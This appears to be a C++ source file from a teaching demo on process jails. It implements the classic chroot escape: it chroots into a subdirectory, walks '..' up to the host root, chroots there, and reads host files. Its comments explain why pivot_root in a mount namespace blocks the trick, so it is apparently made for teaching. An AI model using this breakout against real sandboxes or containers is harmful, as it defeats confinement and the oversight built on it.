// hood-demo escape: the classic chroot(2) escape, done for real, for the jails lesson.
// chroot(2) changes only where "/" resolves; it does not move the working directory,
// and chroot's manual says it is not meant to confine a root process. So a process
// with CAP_SYS_CHROOT chroots into a subdirectory while it stays outside it, walks
// ".." up from there (nothing stops it: its root is now below it), and chroots into
// what it reached: the host's root. Under pivot_root in a mount namespace the
// host's tree is no longer mounted anywhere the process can reach, so the walk ends
// at the container's own root.
#include "demo.h"

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <sys/stat.h>
#include <unistd.h>

namespace demo {

namespace {

// The root directory's device and inode: what tells one "/" from another.
std::string rootId()
{
    struct stat st {};
    if (stat("/", &st) != 0)
        return "?";
    return std::to_string(st.st_dev) + ":" + std::to_string(st.st_ino);
}

} // namespace

int cmdEscape(Args args)
{
    if (!args.empty())
        throw UsageError{"takes no arguments"};
    std::printf("root.before: %s\n", rootId().c_str());
    const char *cell = "/tmp/hood-escape-cell";
    mkdir("/tmp", 01777);
    if (mkdir(cell, 0700) != 0 && errno != EEXIST) {
        std::printf("escape: mkdir %s: %s\n", cell, std::strerror(errno));
        return kExitFailed;
    }
    // 1. chroot into the cell without entering it: the cwd stays above the new root.
    if (chroot(cell) != 0) {
        std::printf("escape: chroot %s: %s (no CAP_SYS_CHROOT?)\n", cell, std::strerror(errno));
        return kExitFailed;
    }
    // 2. Walk up. ".." of the real "/" is "/" itself, so enough steps reach it.
    for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0)
            break;
    // 3. Make what was reached the root.
    if (chroot(".") != 0) {
        std::printf("escape: chroot .: %s\n", std::strerror(errno));
        return kExitFailed;
    }
    std::printf("root.after: %s\n", rootId().c_str());
    // What the process now sees as /: the host's files, if it got out.
    for (const char *probe : {"/etc/hostname", "/etc/os-release"}) {
        FILE *f = std::fopen(probe, "r");
        char line[128] = "";
        if (f && std::fgets(line, sizeof line, f))
            line[std::strcspn(line, "\n")] = '\0';
        if (f)
            std::fclose(f);
        std::printf("%s: %s\n", probe, f ? line : "(none)");
    }
    return kExitOk;
}

} // namespace demo
